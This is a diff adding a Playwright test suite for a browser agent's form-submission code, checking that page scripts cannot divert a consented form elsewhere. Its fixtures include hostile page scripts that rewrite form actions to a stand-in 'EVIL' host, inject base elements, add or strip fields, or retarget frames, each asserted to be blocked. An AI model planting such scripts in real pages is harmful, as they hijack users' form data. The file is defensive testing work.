@@ -1,0 +1,460 @@
+/** What a page may change while a run sends its form, and that nothing else is sent: the servers' logs prove it. */
+
+import type { Page } from 'playwright';
+import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
+import type { Outcome, Step, Submission } from '../../../../lib/model/index.ts';
+import type { PageRun } from '../../../../lib/page/act/execute.ts';
+import { fromPage } from '../../../../lib/run/answer/page-outcome.ts';
+import { OWN } from '../../../builders.ts';
+import { spoken } from '../../../in-english.ts';
+import { bundle, openPage, type Site, serve } from '../browser.ts';
+
+type Global = typeof globalThis & {
+  readonly lens: typeof import('../../../../lib/page/act/execute.ts');
+};
+
+interface Exchange {
+  readonly method: string;
+  readonly path: string;
+  readonly body: string;
+}
+
+let page: Page;
+let script: string;
+let shop: Site;
+let evil: Site;
+let markup = '';
+let log: Exchange[] = [];
+let elsewhere: Exchange[] = [];
+
+const server = (into: () => Exchange[]) =>
+  serve((request, response) => {
+    let body = '';
+    request.on('data', (chunk) => {
+      body += chunk;
+    });
+    request.on('end', () => {
+      const path = request.url ?? '';
+      if (path !== '/favicon.ico') into().push({ method: request.method ?? '', path, body });
+      response.setHeader('content-type', 'text/html; charset=utf-8');
+      const html = path === '/' && request.method === 'GET' ? markup : '<ul class=results><li>done';
+      response.end(`<!doctype html><title>Shop</title>${html}`);
+    });
+  });
+
+beforeAll(async () => {
+  [page, script, shop, evil] = await Promise.all([
+    openPage(),
+    bundle('lib/page/act/execute.ts', 'lens'),
+    server(() => log),
+    server(() => elsewhere),
+  ]);
+}, 60_000);
+afterAll(async () => {
+  await page.close();
+  await shop.close();
+  await evil.close();
+});
+// What a test has left under way, in its page or in a window that it opened, is not the next one's.
+afterEach(async () => {
+  for (const other of page.context().pages()) if (other !== page) await other.close();
+  await page.goto('about:blank');
+});
+
+const POST: Submission & { kind: 'form' } = {
+  kind: 'form',
+  method: 'post',
+  url: '/order',
+  enctype: 'application/x-www-form-urlencoded',
+  target: '',
+  fields: ['name', 'token'],
+};
+const GET: Submission = { ...POST, method: 'get', url: '/find' };
+
+const STEPS = (expects: Submission, trigger = '#f'): readonly Step[] => [
+  { kind: 'fill', parameter: 'name', selector: '[name=name]', path: '[name=name]', value: 'Ada' },
+  {
+    kind: 'submit',
+    selector: trigger,
+    path: trigger,
+    expects: 'url' in expects ? { ...expects, url: new URL(expects.url, shop.origin).href } : expects,
+  },
+  { kind: 'wait' },
+];
+
+/**
+ * @param meanwhile what the page does while the run waits to be let on: the background's answer takes its time
+ * @returns how it ended; null where the page was left, as it was agreed to
+ */
+async function run(of: string, steps: readonly Step[], meanwhile = ''): Promise<Outcome | null> {
+  markup = of.replaceAll('EVIL', evil.origin);
+  await page.goto(`${shop.origin}/`);
+  await page.evaluate(script);
+  log = [];
+  elsewhere = [];
+  const plan: PageRun['plan'] = {
+    kind: 'page',
+    url: `${shop.origin}/`,
+    steps,
+    action: 'awas:order',
+    risk: 'change',
+    consent: true,
+    ...OWN,
+    summary: [],
+    warnings: [],
+  };
+  const given = { plan, deadline: Date.now() + 6_000, late: 500 } satisfies PageRun;
+  const outcome = page.evaluate(
+    ([json, code]) => {
+      const { lens } = globalThis as Global;
+      const { signal } = new AbortController();
+      const progress = async (_: unknown, done: number): Promise<void> => {
+        await new Promise((resolve) => setTimeout(resolve, 20));
+        if (done > 1 && code) document.body.appendChild(document.createElement('script')).text = code;
+      };
+      return lens.executePage(document, JSON.parse(json as string) as PageRun, { progress }, signal);
+    },
+    [JSON.stringify(given), meanwhile],
+  );
+  const ended = await outcome.catch((error: Error) => {
+    if (/context was destroyed|navigation/i.test(error.message)) return null;
+    throw error;
+  });
+  if (ended === null) await page.waitForURL(({ pathname }) => pathname !== '/');
+  return ended && spoken(fromPage(ended));
+}
+
+const FIELDS = '<input name=name><input type=hidden name=token value=1>';
+const FORM = `<form id=f method=post action=/order>${FIELDS}<button>Order</button></form><iframe name=inner></iframe>`;
+const withScript = (code: string, form = FORM): string =>
+  `${form}<script>const form = document.querySelector('#f');${code}</script>`;
+const onSubmit = (code: string): string =>
+  withScript(`form.addEventListener('submit', (event) => { ${code} });`);
+/** Added while the event is under way: it comes after all that were there. */
+const lastOnSubmit = (code: string): string =>
+  onSubmit(`window.addEventListener('submit', (event) => { ${code} });`);
+const onFormdata = (code: string): string =>
+  withScript(`form.addEventListener('formdata', (event) => { ${code} });`);
+const FIELD = `const field = form.appendChild(document.createElement('input')); field.name = 'evil'; field.value = 1;`;
+
+describe('what was agreed to is sent', () => {
+  test.each<[name: string, markup: string, expects: Submission, sent: readonly Partial<Exchange>[]]>([
+    ['a POST', FORM, POST, [{ method: 'POST', path: '/order', body: 'name=Ada&token=1' }]],
+    [
+      'a GET',
+      `<form id=f action="/find?old=1">${FIELDS}<button>Find</button></form>`,
+      GET,
+      [{ method: 'GET', path: '/find?name=Ada&token=1' }],
+    ],
+    [
+      'a form without a button',
+      FORM.replace('<button>Order</button>', ''),
+      POST,
+      [{ method: 'POST', path: '/order' }],
+    ],
+    [
+      'multipart',
+      FORM.replace('method', 'enctype=multipart/form-data method'),
+      { ...POST, enctype: 'multipart/form-data' },
+      [{ method: 'POST', path: '/order' }],
+    ],
+    [
+      'later, by a script that held it up',
+      onSubmit('event.preventDefault(); setTimeout(() => form.submit(), 300)'),
+      POST,
+      [{ method: 'POST', path: '/order' }],
+    ],
+    [
+      'where a script only looks at the fields',
+      onSubmit('if (![...new FormData(form).keys()].length) event.preventDefault()'),
+      { ...POST, fields: ['name', 'token', 'by'] },
+      [{ method: 'POST', path: '/order' }],
+    ],
+    [
+      'where the fields change only after it was sent',
+      onSubmit(
+        "setTimeout(() => { for (const each of form.querySelectorAll('input')) each.disabled = true; })",
+      ),
+      POST,
+      [{ method: 'POST', path: '/order', body: 'name=Ada&token=1' }],
+    ],
+    [
+      'a box that the run itself has filled',
+      FORM.replace('<button>', '<input type=checkbox name=token value=2><button>'),
+      POST,
+      [{ method: 'POST', path: '/order' }],
+    ],
+  ])('%s', async (name, of, expects, sent) => {
+    const shown = name.includes('looks') ? of.replace('<button>', '<button name=by value=1>') : of;
+    expect(await run(shown, STEPS(expects))).toBeNull();
+    await expect.poll(() => log).toMatchObject(sent);
+    expect(elsewhere).toEqual([]);
+  });
+
+  test('a link', async () => {
+    const expects: Submission = { kind: 'link', url: '/out?a=1', target: '' };
+    const steps = STEPS(expects, 'a').slice(1);
+    expect(await run('<a href="/out?a=1">Out</a>', steps)).toBeNull();
+    await expect.poll(() => log).toMatchObject([{ method: 'GET', path: '/out?a=1' }]);
+  });
+});
+
+describe('a page that takes it over itself stays on its site, and that is noted', () => {
+  const HANDLED = 'The page’s own script handled the form.';
+  test('with a request of its own', async () => {
+    const outcome = await run(
+      onSubmit(
+        "event.preventDefault(); fetch('/api', { method: 'POST', body: new FormData(form) }).then(() => { document.title = 'Done'; document.body.append('Done') })",
+      ),
+      STEPS(POST),
+    );
+    expect(outcome).toMatchObject({ ok: true, notes: [HANDLED] });
+    expect(log).toMatchObject([{ method: 'POST', path: '/api' }]);
+  });
+  test('and leads on', async () => {
+    expect(await run(onSubmit("event.preventDefault(); location.href = '/thanks'"), STEPS(POST))).toBeNull();
+    await expect.poll(() => log).toMatchObject([{ method: 'GET', path: '/thanks' }]);
+  });
+  test('and changes its address only', async () => {
+    const code =
+      "event.preventDefault(); history.pushState(null, '', '/find?name=Ada'); document.body.append('Done')";
+    expect(await run(onSubmit(code), STEPS(POST))).toMatchObject({ ok: true, notes: [HANDLED] });
+  });
+  test('but leads nowhere else', async () => {
+    const outcome = await run(
+      onSubmit("event.preventDefault(); location.href = 'EVIL/collect'"),
+      STEPS(POST),
+    );
+    expect(outcome).toMatchObject({ ok: false, code: 'destination-changed' });
+    expect(elsewhere).toEqual([]);
+  });
+});
+
+describe('stops before the request', () => {
+  test.each<[name: string, markup: string, message: RegExp]>([
+    [
+      'another action in its submit listener',
+      onSubmit("form.action = 'EVIL/x'"),
+      /goes to http:\S+\/x, not to http:\S+\/order/,
+    ],
+    ['another action in a listener that comes last', lastOnSubmit("form.action = 'EVIL/x'"), /./],
+    [
+      'another action after the button is pressed',
+      withScript("document.querySelector('button').onclick = () => { form.action = 'EVIL/x' }"),
+      /goes to/,
+    ],
+    ['the button’s own address', onSubmit("event.submitter.setAttribute('formaction', 'EVIL/x')"), /goes to/],
+    [
+      'another base',
+      onSubmit("document.head.appendChild(document.createElement('base')).href = 'EVIL/'").replace(
+        'action=/order',
+        'action=order',
+      ),
+      /goes to/,
+    ],
+    [
+      'form.submit() to elsewhere',
+      onSubmit("event.preventDefault(); form.action = 'EVIL/x'; form.submit()"),
+      /goes to/,
+    ],
+    [
+      'form.submit() to elsewhere, later',
+      onSubmit("event.preventDefault(); setTimeout(() => { form.action = 'EVIL/x'; form.submit() }, 300)"),
+      /goes to/,
+    ],
+    [
+      'another form of its own',
+      onSubmit(
+        "event.preventDefault(); const other = document.body.appendChild(form.cloneNode(true)); other.action = 'EVIL/x'; other.submit()",
+      ),
+      /goes to/,
+    ],
+    ['GET in place of POST', onSubmit("form.method = 'get'"), /sent by GET, not by POST/],
+    [
+      'GET in place of POST by form.submit()',
+      onSubmit("event.preventDefault(); form.method = 'get'; form.submit()"),
+      /sent by GET, not by POST/,
+    ],
+    ['another encoding', onSubmit("form.enctype = 'text/plain'"), /sent as text\/plain, not as/],
+    [
+      'another path of its own site',
+      onSubmit("form.action = '/account/close'"),
+      /goes to http:\S+\/account\/close/,
+    ],
+    ['a field added in formdata', onFormdata("event.formData.append('evil', 1)"), /also sends “evil”/],
+    [
+      'a field added in formdata, unseen',
+      onFormdata("event.formData.append('evil', 1); event.stopImmediatePropagation()"),
+      /also sends “evil”/,
+    ],
+    [
+      'a field added in formdata by the last listener',
+      onSubmit("window.addEventListener('formdata', (event) => event.formData.append('evil', 1))"),
+      /./,
+    ],
+    [
+      'a field taken away in formdata',
+      onFormdata("event.formData.delete('token')"),
+      /no longer sends “token”/,
+    ],
+    ['a field added by its submit listener', onSubmit(FIELD), /also sends “evil”/],
+    [
+      'a field disabled by its submit listener',
+      onSubmit('form.elements.token.disabled = true'),
+      /no longer sends “token”/,
+    ],
+    ['another window', onSubmit("form.target = '_blank'"), /opens in “_blank”, not in “_self”/],
+    ['a frame', onSubmit("form.target = 'inner'"), /opens in “inner”/],
+    ['a frame, in formdata', onFormdata("form.target = 'inner'"), /opens in “inner”/],
+    [
+      'another frame and site by form.submit()',
+      onSubmit("event.preventDefault(); form.target = 'inner'; form.action = 'EVIL/x'; form.submit()"),
+      /goes to/,
+    ],
+    [
+      'a second attempt after its own cancelling',
+      withScript(
+        "navigation.addEventListener('navigate', (event) => { event.preventDefault(); setTimeout(() => { form.action = 'EVIL/x'; form.submit() }) }, { once: true })",
+      ),
+      /goes to/,
+    ],
+    [
+      'another action as soon as it is filled',
+      withScript("form.addEventListener('input', () => { form.action = 'EVIL/x' })"),
+      /goes to/,
+    ],
+  ])('%s', async (name, of, message) => {
+    const outcome = await run(of, STEPS(POST));
+    // What a listener does that comes after ours is prevented, rather than noticed.
+    if (/last/.test(name)) expect(outcome).toBeNull();
+    else {
+      expect(outcome).toMatchObject({
+        ok: false,
+        code: 'destination-changed',
+        message: expect.stringMatching(message),
+        next: expect.any(String),
+      });
+      expect(log).toEqual([]);
+    }
+    await page.waitForTimeout(200);
+    expect(elsewhere).toEqual([]);
+    expect(log.filter(({ body }) => body.includes('evil'))).toEqual([]);
+  });
+
+  test('a new window by form.submit(), which Chromium opens all the same, gets nothing of the form', async () => {
+    const outcome = await run(
+      onSubmit("event.preventDefault(); form.target = '_blank'; form.action = 'EVIL/x'; form.submit()"),
+      STEPS(POST),
+    );
+    expect(outcome).toMatchObject({
+      code: 'destination-changed',
+      message: expect.stringContaining('opens in “_blank”'),
+    });
+    await page.waitForTimeout(300);
+    // The background blocks the request itself.
+    expect(elsewhere.map(({ body }) => body).join('')).toBe('');
+    expect(log).toEqual([]);
+  });
+
+  test.each([
+    ['its action', "form.action = 'EVIL/x'"],
+    ['its base', "document.head.insertAdjacentHTML('beforeend', '<base href=EVIL/>')"],
+    ['its method', "form.method = 'get'"],
+    ['a field', FIELD],
+    ['its target', "form.target = 'inner'"],
+    ['the whole form', 'form.outerHTML = form.outerHTML.replace("order", "EVIL/x")'],
+  ])('%s swapped while the background is asked', async (_, code) => {
+    const swap = `{ const form = document.querySelector('#f'); ${code.replaceAll('EVIL', evil.origin)} }`;
+    const outcome = await run(FORM.replace('action=/order', 'action=order'), STEPS(POST), swap);
+    expect(outcome).toMatchObject({
+      ok: false,
+      code: expect.stringMatching(/^(?:destination-changed|not-runnable)$/),
+    });
+    expect([...log, ...elsewhere]).toEqual([]);
+  });
+
+  test.each<[name: string, markup: string, expects: Submission]>([
+    ['a link that leads elsewhere', '<a id=f href=EVIL/x>Out</a>', { kind: 'link', url: '/out', target: '' }],
+    [
+      'a link that is one to elsewhere when it is clicked',
+      '<a id=f href=/out onclick="this.href=\'EVIL/x\'">Out</a>',
+      { kind: 'link', url: '/out', target: '' },
+    ],
+    [
+      'a link that sends a form',
+      `${FORM.replace('id=f', 'id=g')}<a id=f href=/out onclick="document.querySelector('#g').submit(); return false">Out</a>`,
+      { kind: 'link', url: '/out', target: '' },
+    ],
+    ['a form where there was a script', FORM, { kind: 'script' }],
+    ['a script where there was a form', '<button id=f>Go</button>', POST],
+    [
+      'a script that leaves its site',
+      '<button id=f onclick="location.href=\'EVIL/x\'">Go</button>',
+      { kind: 'script' },
+    ],
+    [
+      'a script that sends a form to elsewhere',
+      '<button id=f onclick="document.forms[0].submit()">Go</button><form method=post action=EVIL/x></form>',
+      { kind: 'script' },
+    ],
+    [
+      'a form of a frame that sends elsewhere',
+      '<iframe srcdoc="<form method=post action=EVIL/x></form>"></iframe><button id=f onclick="frames[0].document.forms[0].target = \'_top\'; frames[0].document.forms[0].submit()">Go</button>',
+      { kind: 'script' },
+    ],
+  ])('%s', async (_, of, expects) => {
+    const outcome = await run(of, STEPS(expects).slice(1));
+    expect(outcome).toMatchObject({ ok: false, code: 'destination-changed' });
+    await page.waitForTimeout(200);
+    expect([...log, ...elsewhere]).toEqual([]);
+  });
+
+  test('in a frame of the page', async () => {
+    const inner = `<form id=f method=post action=/order>${FIELDS}<button>Order</button></form><script>document.forms[0].onsubmit = () => { document.forms[0].action = 'EVIL/x' }</script>`;
+    const steps = STEPS(POST).map((step) => ('selector' in step ? { ...step, within: ['iframe'] } : step));
+    const outcome = await run(`<iframe srcdoc="${inner.replaceAll('"', "'")}"></iframe>`, steps);
+    expect(outcome).toMatchObject({ ok: false, code: 'destination-changed' });
+    expect([...log, ...elsewhere]).toEqual([]);
+  });
+
+  test('and leaves the page as it was', async () => {
+    await run(onFormdata("form.target = '_blank'"), STEPS(POST));
+    expect(await page.evaluate(() => document.querySelector('#f')?.nextElementSibling?.tagName)).toBe(
+      'IFRAME',
+    );
+    await page.evaluate(() => {
+      const form = document.querySelector<HTMLFormElement>('#f')!;
+      form.target = '';
+      form.action = '/later';
+      form.submit();
+    });
+    await page.waitForURL('**/later');
+    expect(log).toMatchObject([{ method: 'POST', path: '/later' }]);
+  });
+});
+
+describe('acts on exactly what was planned', () => {
+  const TWO = `<form id=g action=/other method=post><input name=name><button>No</button></form>${FORM}`;
+  test('not on what is nearest', async () => {
+    const steps = STEPS(POST).map((step) =>
+      step.kind === 'fill' ? { ...step, path: '#f > [name=name]' } : step,
+    );
+    expect(await run(TWO, steps)).toBeNull();
+    await expect.poll(() => log).toMatchObject([{ path: '/order', body: 'name=Ada&token=1' }]);
+  });
+  test('finds it again where the page has moved it', async () => {
+    const steps = STEPS(POST).map((step) =>
+      step.kind === 'fill' ? { ...step, path: 'body > :nth-child(9)' } : step,
+    );
+    expect(await run(TWO, steps)).toBeNull();
+    await expect.poll(() => log).toMatchObject([{ path: '/order', body: 'name=Ada&token=1' }]);
+  });
+  test('and says so where it is gone', async () => {
+    const outcome = await run('<p>Sold out', STEPS(POST).slice(1));
+    expect(outcome).toMatchObject({
+      ok: false,
+      code: 'page-changed',
+      message: expect.stringContaining('is gone'),
+    });
+  });
+});
